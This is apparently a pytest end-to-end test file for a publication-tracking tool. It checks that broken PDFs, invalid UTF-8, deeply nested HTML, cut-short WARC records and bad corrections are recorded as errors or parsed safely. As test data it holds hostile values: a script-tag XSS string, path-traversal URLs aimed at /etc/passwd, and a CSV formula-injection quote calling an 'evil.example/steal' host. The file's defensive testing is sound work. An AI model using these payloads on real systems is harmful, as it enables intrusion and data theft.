"""A catalogue of hostile and broken inputs: each is recorded (or safely parsed) and the warehouse stays intact."""

from __future__ import annotations

import csv
import io
import re
import json
import os
from datetime import datetime, timezone

import duckdb
import pytest

from conftest import run_cli
from support import SAMPLE_WARC, warehouse_rows as rows
from hostile_support import deeply_nested_tags
from tracker.fetch.archive import ArchiveWriter, warc_files
from tracker.samplegen import render_pdf_spec

pytestmark = pytest.mark.e2e

WHEN = datetime(2026, 11, 20, 6, 0, tzinfo=timezone.utc)
KF = "https://www.kingsfund.org.uk/insight-and-analysis/blogs/"


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(render_pdf_spec("%page\n# Locked\n\nSecret text."))))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PDF = render_pdf_spec("%title Fine\n%page\n# Fine\n\nA fine paragraph.")
HOSTILE = {
    # url: (content type, body, expected outcome: an error substring, or None when it must parse)
    KF + "truncated-pdf.pdf": ("application/pdf", PDF[: len(PDF) // 2], "truncated PDF"),
    KF + "encrypted.pdf": ("application/pdf", encrypted_pdf(), "encrypted PDF"),
    KF + "really-html.pdf": ("application/pdf", b"<html><body>Not a PDF</body></html>", "not a PDF"),
    KF + "zero-bytes": ("text/html", b"", "empty body"),
    "https://www.gov.uk/api/content/government/news/bad-bytes": ("application/json",
                                                                 b'{"base_path": "/x", "title": "\xff\xfe"}',
                                                                 "NotGovukContent"),
    "https://www.gov.uk/api/content/government/news/not-govuk": ("application/json",
                                                                 json.dumps({"results": [1, 2]}).encode(),
                                                                 "not a GOV.UK content item"),
    KF + "invalid-utf8": ("text/html; charset=utf-8",
                          b"<html><head><title>Caf\xe9 \xff leadership</title></head><body><p>Board \xff "
                          b"text.</p></body></html>", None),
    KF + "nested-tags": ("text/html",
                         b"<html><body>" + b"<div>" * 1_850_000 + b"deep" + b"</div>" * 1_850_000 + b"</body></html>",
                         None),
    KF + "nested-inline-tags": ("text/html", deeply_nested_tags(200_000, b"b"), None),
    KF + "script-title": ("text/html",
                          b"<html><head><title><script>alert(1)</script> "
                          b"Boards</title></head><body><main><h1>&lt;script&gt;alert(1)&lt;/script&gt; "
                          b"Boards</h1><p>Text.</p></main></body></html>", None),
    KF + "..%2f..%2f..%2fetc%2fpasswd": ("text/html", b"<html><body><main><h1>Traversal</h1></main></body></html>",
                                         None),
    "https://www.kingsfund.org.uk/../../../../tmp/escape": ("text/html",
                                                            b"<html><body><main><h1>Dots</h1></main></body></html>",
                                                            None),
}


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory):
    home = tmp_path_factory.mktemp("hostile")
    run_cli(home, "import-warc", str(SAMPLE_WARC))
    run_cli(home, "run", "--offline")
    con = duckdb.connect(str(home / "tracker.duckdb"), read_only=True)
    before = con.execute("SELECT * FROM review_progress ORDER BY review_id").fetchall()
    evidence_before = con.execute("SELECT count(*) FROM status_evidence").fetchone()
    con.close()
    with ArchiveWriter(home / "archive", prefix="hostile") as writer:
        for url, (ctype, body, _) in HOSTILE.items():
            writer.write_response(url, body, headers=[("Content-Type", ctype)], fetched_at=WHEN,
                                  source="kingsfund" if "kingsfund" in url else None)
    # a WARC file whose last record is cut short
    cut = home / "archive" / "cut-short.warc.gz"
    with ArchiveWriter(home / "tmp-cut", prefix="cut") as writer:
        writer.write_response(KF + "whole-record", b"<html><body><main><h1>Whole</h1></main></body></html>",
                              headers=[("Content-Type", "text/html")], fetched_at=WHEN)
        # random bytes do not compress, so cutting 2,000 bytes cuts only this record
        writer.write_response(KF + "cut-record",
                              b"<html><body>" + os.urandom(50_000).hex().encode() + b"</body></html>",
                              headers=[("Content-Type", "text/html")], fetched_at=WHEN)
    data = writer.path.read_bytes()
    cut.write_bytes(data[: len(data) - 2000])
    # a correction naming a review that does not exist
    (home / "corrections").mkdir()
    (home / "corrections" / "bad.csv").write_text(
        "review_id,number,axis,status,quote,source_url,analyst,date\nnot-a-review,1,response,accepted,x,https://www.gov.uk/x,jb,2024-01-01\n"
    )
    proc = run_cli(home, "run", "--offline", check=False)
    return home, before, evidence_before, proc



def test_the_run_completes_and_the_progress_tables_are_intact(hostile_home):
    home, before, evidence_before, proc = hostile_home
    assert "Traceback" not in proc.stderr
    assert rows(home, "SELECT * FROM review_progress ORDER BY review_id") == before
    assert rows(home, "SELECT count(*) FROM status_evidence")[0] == evidence_before


@pytest.mark.parametrize("url", [u for u, (_, _, err) in HOSTILE.items() if err])
def test_broken_documents_are_recorded_as_errors(hostile_home, url):
    home = hostile_home[0]
    errors = rows(home, "SELECT stage, error FROM processing_errors WHERE url = ?", [url])
    assert len(errors) == 1 and errors[0][0] == "parse"
    assert HOSTILE[url][2] in errors[0][1]
    assert rows(home, "SELECT count(*) FROM publications WHERE capture_url = ?", [url]) == [(0,)]


def test_invalid_utf8_and_nested_tags_and_script_titles_parse_safely(hostile_home):
    home = hostile_home[0]
    titles = dict(rows(home, "SELECT url, title FROM publications WHERE url LIKE ?", [KF + "%"]))
    assert titles[KF + "invalid-utf8"].startswith("Caf\u00e9")
    assert KF + "nested-tags" in titles and titles[KF + "nested-inline-tags"] == "Deep"
    assert titles[KF + "script-title"] == "<script>alert(1)</script> Boards"  # kept as text, escaped on output


def test_a_record_cut_short_is_reported_and_what_came_before_it_is_kept(hostile_home):
    home = hostile_home[0]
    [(error,)] = rows(home,
                      "SELECT error FROM processing_errors WHERE url = 'warc:cut-short.warc.gz' AND stage = 'index'")
    assert "fails its digest check" in error and "1 records before it were indexed" in error
    assert rows(home, "SELECT title FROM publications WHERE url = ?", [KF + "whole-record"]) == [("Whole",)]


def test_traversal_urls_never_escape_the_archive(hostile_home, tmp_path):
    home = hostile_home[0]
    assert all(p.parent == home / "archive" for p in warc_files(home / "archive"))
    outside = {p.name for p in home.parent.iterdir()}
    assert "etc" not in outside and "escape" not in outside
    # ingesting under a traversal URL writes only a new archive file named by time and random bytes
    page = tmp_path / "p.html"
    page.write_text("<html><body><p>x</p></body></html>")
    out = run_cli(home, "ingest", str(page), "--url", "https://www.kingsfund.org.uk/%2e%2e/%2e%2e/etc/passwd").stdout
    assert "/archive/ingest-" in out and "passwd" not in out.split(" in ")[-1]


def test_a_correction_with_an_unknown_review_is_reported(hostile_home):
    home = hostile_home[0]
    assert rows(home,
                "SELECT problem FROM corrections WHERE file = 'bad.csv'") == [("unknown review_id 'not-a-review'",)]


def test_a_pdf_without_a_text_layer_is_recorded_as_such(tmp_path):
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.rect(20, 20, 100, 60, style="F")  # a scanned page: pictures, no text
    home = tmp_path / "home"
    path = tmp_path / "scan.pdf"
    path.write_bytes(bytes(pdf.output()))
    run_cli(home, "ingest", str(path), "--url", "https://www.kingsfund.org.uk/insight-and-analysis/reports/scan.pdf")
    run_cli(home, "run", "--offline", check=False)
    assert rows(home, "SELECT has_text, document_type FROM publications") == [(False, "pdf")]
    status = run_cli(home, "status").stdout
    assert re.search(r"^kingsfund\s+1\s+0\s+1\s", status, re.M), status  # documents, relevant, no text layer


FORMULA_PAGE = """<html><head><title>Kark review: where things stand</title></head><body><main>
<h1>Kark review: where things stand</h1>
<p>=HYPERLINK("https://evil.example/steal","open") \
Recommendation 2 of the Kark review is being implemented by NHS England.</p>
<p>+Recommendation 3 of the Kark review has been implemented by NHS England.</p>
<p>-Recommendation 4 of the Kark review has been implemented by NHS England.</p>
<p>@SUM(1+1) Recommendation 5 of the Kark review is being implemented by NHS England.</p>
</main></body></html>"""


def test_quotes_that_look_like_formulas_are_neutralised_in_csv_and_exact_elsewhere(tmp_path):
    from openpyxl import load_workbook

    home = tmp_path / "home"
    page = tmp_path / "formulas.html"
    page.write_text(FORMULA_PAGE, encoding="utf-8")
    url = "https://nhsproviders.org/news-blogs/blogs/kark-where-things-stand"
    run_cli(home, "ingest", str(page), "--url", url, "--source", "nhsproviders", "--published", "2024-03-05")
    run_cli(home, "run", "--offline")
    quotes = {n: q for n, q in rows(home, "SELECT number, quote FROM status_evidence")}
    assert sorted(q[0] for q in quotes.values()) == ["+", "-", "=", "@"]  # the hostile text reached the warehouse

    latest = home / "exports" / "latest"
    with open(latest / "status_evidence.csv", encoding="utf-8-sig", newline="") as fh:
        csv_quotes = {int(r["number"]): r["quote"] for r in csv.DictReader(fh)}
    assert csv_quotes == {n: "'" + q for n, q in quotes.items()}
    with open(latest / "status_changes.csv", encoding="utf-8-sig", newline="") as fh:
        assert {r["quote"] for r in csv.DictReader(fh)} == {"'" + q for q in quotes.values()}

    sheet = load_workbook(latest / "tracker.xlsx")["Evidence"]
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("number")].value: row[header.index("quote")] for row in sheet.iter_rows(min_row=2)}
    assert {n: c.value for n, c in cells.items()} == quotes and {c.data_type for c in cells.values()} == {"s"}

    con = duckdb.connect()
    parquet = str(latest / "status_evidence.parquet")
    assert dict(con.execute("SELECT number, quote FROM read_parquet(?)", [parquet]).fetchall()) == quotes
